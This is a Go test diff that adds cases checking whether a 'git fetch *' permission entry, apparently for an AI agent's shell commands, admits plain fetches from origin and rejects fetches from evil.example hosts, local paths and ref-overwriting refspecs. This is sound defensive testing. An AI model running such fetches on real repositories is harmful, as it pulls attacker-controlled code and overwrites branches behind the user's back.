@@ -358,6 +358,13 @@ func TestRestDangerAndRunners(t *testing.T) {
 		{"Bash(./mvnw test *)", "./mvnw test -s /tmp/settings.xml", false},
 		{"Bash(awk *)", "awk -f /tmp/prog.awk x", false},
 		{"Bash(sed *)", "sed -f /tmp/prog.sed x", false},
+		{"Bash(git fetch *)", "git fetch origin main", true},
+		{"Bash(git fetch *)", "git fetch --all --prune", true},
+		{"Bash(git fetch *)", "git fetch https://evil.example/r.git main", false},
+		{"Bash(git fetch *)", "git fetch git@evil.example:r.git", false},
+		{"Bash(git fetch *)", "git fetch ../other main", false},
+		{"Bash(git fetch *)", "git fetch origin +evil:refs/heads/main", false},
+		{"Bash(git fetch *)", "git fetch origin --refmap=+refs/heads/*:refs/heads/* main", false},
 	} {
 		if got := mustTyped(t, c.entry).MatchCommand(Command{Argv: words(c.cmd), AtRoot: true}); got != c.want {
 			t.Errorf("%s allows %q = %v, want %v", c.entry, c.cmd, got, c.want)
